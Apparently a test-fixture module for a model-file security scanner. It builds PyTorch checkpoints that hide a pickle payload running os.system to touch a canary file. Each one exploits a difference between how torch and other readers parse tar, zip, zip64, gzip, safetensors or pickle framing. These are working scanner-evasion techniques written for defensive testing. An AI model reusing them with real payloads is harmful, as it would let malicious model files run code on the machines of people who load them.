"""Files whose container torch reads otherwise than a reader that follows the format by the book:
each builder returns bytes (no torch needed) whose payload would ``touch`` a canary if run."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

from tests.hostile_folders import evil_pickle

# a benign legacy/zip state-dict pickle body: {"w": tensor} is not needed to make torch run code
BENIGN = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name), data)
    return buf.getvalue()


def v7_tar(canary: Path) -> bytes:
    """A tar with no "ustar" magic whose first member is named like a pickle; torch.load's
    legacy path opens it with tarfile and unpickles its ``storages`` member."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in (("\x80\x02}.", b""), ("storages", evil_pickle(canary))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    for start in range(0, len(raw) - 512, 512):
        block = raw[start : start + 512]
        if block[257:262] == b"ustar":  # each header: drop the magic, fix the checksum
            block[257:265] = b"\0" * 8
            block[148:156] = b" " * 8
            block[148:155] = b"%06o\0" % sum(block)
            raw[start : start + 512] = block
    return bytes(raw)


def frame_past_stop(canary: Path) -> bytes:
    """A legacy checkpoint whose magic-number pickle declares a FRAME running past its STOP.
    Following opcodes, five clean pickles; CPython reads the whole frame first, so torch's next
    pickles start after it: the object pickle it runs is ``os.system``."""
    magic = b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    fake = b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02}." + b"\x80\x02]."
    body = magic + fake
    first = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body
    rest = (
        b"\x80\x02M\xe9\x03."  # protocol 1001
        + b"\x80\x02}X\x0d\x00\x00\x00little_endian\x88s."  # sys_info
        + evil_pickle(canary)  # the object
        + b"\x80\x02]."  # storage keys
    )
    return first + rest


def case_folded_twin(canary: Path) -> bytes:
    """``a/data.pkl`` (benign) and ``a/DATA.PKL`` (evil): the same name to torch's zip reader."""
    return _zip([("a/data.pkl", BENIGN), ("a/DATA.PKL", evil_pickle(canary))])


def mixed_case_data_pkl(canary: Path) -> bytes:
    """Only ``a/Data.pkl``: torch's reader finds it (it ignores case)."""
    return _zip([("a/Data.pkl", evil_pickle(canary))])


def duplicate_name(canary: Path) -> bytes:
    return _zip([("a/data.pkl", BENIGN), ("a/data.pkl", evil_pickle(canary))])


def nul_in_name(canary: Path) -> bytes:
    """torch's reader (miniz) compares whole names: it runs the evil a/data.pkl. Python's
    zipfile cuts a name at its NUL, so a scanner built on it finds a second a/data.pkl, the
    benign one, in its place. zipfile also cuts the NUL when it writes: the byte is put in after."""
    data = _zip([("a/data.pkl", evil_pickle(canary)), ("a/data.pkl#.benign", BENIGN)])
    return data.replace(b"a/data.pkl#.benign", b"a/data.pkl\x00.benign")


def two_directories(canary: Path) -> bytes:
    """An evil archive followed by a benign one: zipfile reads the benign directory before the
    end record, miniz the directory at the offset that record names."""
    return _zip([("a/data.pkl", evil_pickle(canary))]) + _zip([("a/data.pkl", BENIGN)])


def torchscript_with_allowed_class(canary: Path) -> bytes:
    """A TorchScript archive whose pickle imports only allowlisted names: torch.load hands it
    to torch.jit.load, whose code (a class named collections.Counter here) runs."""
    code = f"import os\nclass Counter:\n    def __setstate__(self, s):\n        os.system('touch {canary}')\n"
    return _zip(
        [
            ("archive/data.pkl", b"\x80\x02ccollections\nOrderedDict\n)R."),
            ("archive/constants.pkl", b"\x80\x02)."),
            ("archive/code/__torch__/collections.py", code.encode()),
            ("archive/version", b"3\n"),
        ]
    )


def safetensors_pickle_polyglot(canary: Path) -> bytes:
    """A valid safetensors file (safe_open reads it) that is also a pickle: its length bytes are
    MARK, SHORT_BINBYTES 7 (skipping to the JSON's 3rd byte), then STRING swallows the JSON up
    to a raw newline, two EMPTY_DICTs close it, and the tensor's bytes are GLOBAL os.system."""
    return safetensors_polyglot_of(f"cos\nsystem\n(S'touch {canary}'\ntR.".encode())


def safetensors_polyglot_of(payload: bytes, mark: bool = True) -> bytes:
    """The polyglot above with any ``payload`` as its tensor's bytes: the pickle that follows the
    length bytes and the JSON. ``mark=False``: the length's first byte is SHORT_BINBYTES 8 itself
    (skipping to the same JSON byte), so the pickle holds only when read from byte 0."""
    n = 0x28 + 0x43 * 256 + 7 * 65536 if mark else 0x43 + 8 * 256
    size = len(payload)
    head = (
        f'{{"S":{{"dtype":"U8","shape":[{size}],"data_offsets":[0,{size}]}},"__metadata__":{{"k":"'
    )
    tail = '"\n}}'
    text = (head + "x" * (n - len(head) - len(tail)) + tail).encode()
    return struct.pack("<Q", n) + text + payload


def zip64_locator_two_directories(canary: Path) -> bytes:
    """Two central directories, each with its zip64 end record: the locator names the first
    (evil: miniz, torch's reader, follows it), the record just before the locator names the
    second (benign: Python's zipfile takes that one). Found by an independent review."""
    import zlib

    out = bytearray()

    def local(name: bytes, data: bytes) -> int:
        off = len(out)
        out.extend(
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
                        len(data), len(name), 0) + name + data
        )  # fmt: skip
        return off

    def entry(name: bytes, data: bytes, off: int) -> bytes:
        return struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
            len(data), len(name), 0, 0, 0, 0, 0, off,
        ) + name  # fmt: skip

    def record64(n: int, size: int, off: int) -> bytes:
        return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, size, off)

    evil = evil_pickle(canary)
    pkl, version = b"archive/data.pkl", b"archive/version"
    at_evil, at_benign, at_version = local(pkl, evil), local(pkl, BENIGN), local(version, b"3\n")
    dir_evil = entry(pkl, evil, at_evil) + entry(version, b"3\n", at_version)
    dir_benign = entry(pkl, BENIGN, at_benign) + entry(version, b"3\n", at_version)
    at_record = len(out)
    out.extend(bytes(56))  # the record the locator names, filled in below
    at_dir = len(out)
    out.extend(dir_evil)
    out[at_record : at_record + 56] = record64(2, len(dir_evil), at_dir)
    at_dir2 = len(out)
    out.extend(dir_benign)
    out.extend(record64(2, len(dir_benign), at_dir2))
    out.extend(struct.pack("<IIQI", 0x07064B50, 0, at_record, 1))
    out.extend(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    )
    return bytes(out)


def tar_storages_symlink(canary: Path) -> bytes:
    """A tar whose ``storages`` member is a symlink to a pickle outside: torch extracts it and
    unpickles what it points to; tarfile's extractfile raised KeyError (a traceback)."""
    outside = canary.parent / "outside-evil.pkl"
    outside.write_bytes(evil_pickle(canary))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        member = tarfile.TarInfo("storages")
        member.type, member.linkname = tarfile.SYMTYPE, str(outside)
        tf.addfile(member)
    return buf.getvalue()


def tar_link(payload: bytes, link_to: str = "evil", kind: bytes = tarfile.LNKTYPE,
             late: bytes = b"", first: str = "evil") -> bytes:  # fmt: skip
    """A tar of ``first`` (``payload``), then ``storages``, a link of ``kind`` to ``link_to``,
    then ``late``."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in ((first, payload), ("storages", None), ("late", late)):
            member = tarfile.TarInfo(name)
            if data is None:
                member.type, member.linkname = kind, link_to
            else:
                member.size = len(data)
            tf.addfile(member, io.BytesIO(data or b""))
    return buf.getvalue()


def tar_storages_hardlink(canary: Path) -> bytes:
    """A tar whose ``storages`` is a hard link to a member before it: torch's extract writes
    that member's bytes (the payload) and unpickles them."""
    return tar_link(evil_pickle(canary))


def tar_long_name_chain(canary: Path) -> bytes:
    """400 GNU long-name headers in a row: tarfile recurses once per header (RecursionError)."""
    raw = b""
    for _ in range(400):
        header = tarfile.TarInfo("././@LongLink")
        header.type, header.size = tarfile.GNUTYPE_LONGNAME, 10
        raw += header.tobuf(format=tarfile.GNU_FORMAT) + b"x" * 10 + bytes(502)
    last = tarfile.TarInfo("storages")
    return raw + last.tobuf(format=tarfile.GNU_FORMAT) + bytes(1024)


def _tar_members(members: dict[str, bytes]) -> bytes:
    """Members' headers and data, then the two zero blocks that end a tar (no record padding)."""
    out = b""
    for name, data in members.items():
        info = tarfile.TarInfo(name)
        info.size = len(data)
        out += info.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512)
    return out + bytes(1024)


def gzip_tar(raw: dict[str, bytes], gzipped: dict[str, bytes]) -> bytes:
    """One file that is two tars: read plainly (``tarfile.open(mode="r:")``, as torch.load's
    legacy path opens it) it holds ``raw``; read with compression detected (mode ``"r"``, which
    tries gzip first) it is a gzip stream of a tar that holds ``gzipped``.

    The first tar header is a pax extended header (tarfile lists no member for it and ignores its
    name field), whose name starts with a gzip header flagged FEXTRA; the extra field's length
    covers the rest of the plain tar, so gzip skips it and inflates the stream after it, where
    tarfile has already stopped at the plain tar's zero blocks."""
    record = b"26 comment=gzip-tar-twin.\n"  # a pax record: its own length, key=value
    pax = tarfile.TarInfo("pax")
    pax.type, pax.size = tarfile.XHDTYPE, len(record)
    header = bytearray(pax.tobuf(tarfile.USTAR_FORMAT))
    rest = record + bytes(-len(record) % 512) + _tar_members(raw)
    extra = len(header) - 12 + len(rest)  # all after gzip's 12 bytes of fixed header
    assert extra <= 0xFFFF, "the plain tar must fit in gzip's extra field"
    header[:100] = (b"\x1f\x8b\x08\x04" + bytes(6) + struct.pack("<H", extra)).ljust(100, b"\0")
    header[148:156] = b" " * 8  # the checksum, over the header as it now is
    header[148:156] = b"%06o\0 " % sum(header)
    inner = _tar_members(gzipped)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = deflate.compress(inner) + deflate.flush()
    return bytes(header) + rest + stream + struct.pack("<II", zlib.crc32(inner), len(inner))


def gzip_tar_twin(canary: Path) -> bytes:
    """torch.load reads the plain tar, whose ``storages`` runs the payload; the gzipped tar in
    the same bytes holds only a benign pickle. A reader that let tarfile detect compression
    judged the benign one."""
    return gzip_tar({"storages": evil_pickle(canary)}, {"storages": BENIGN})


BUILDERS = {
    "v7-tar": v7_tar,
    "frame-past-stop": frame_past_stop,
    "case-folded-twin": case_folded_twin,
    "mixed-case-data-pkl": mixed_case_data_pkl,
    "duplicate-name": duplicate_name,
    "nul-in-name": nul_in_name,
    "two-directories": two_directories,
    "torchscript-allowed-class": torchscript_with_allowed_class,
    "safetensors-pickle-polyglot": safetensors_pickle_polyglot,
    "zip64-locator-two-directories": zip64_locator_two_directories,
    "tar-storages-symlink": tar_storages_symlink,
    "tar-storages-hardlink": tar_storages_hardlink,
    "tar-long-name-chain": tar_long_name_chain,
    "gzip-tar-twin": gzip_tar_twin,
}
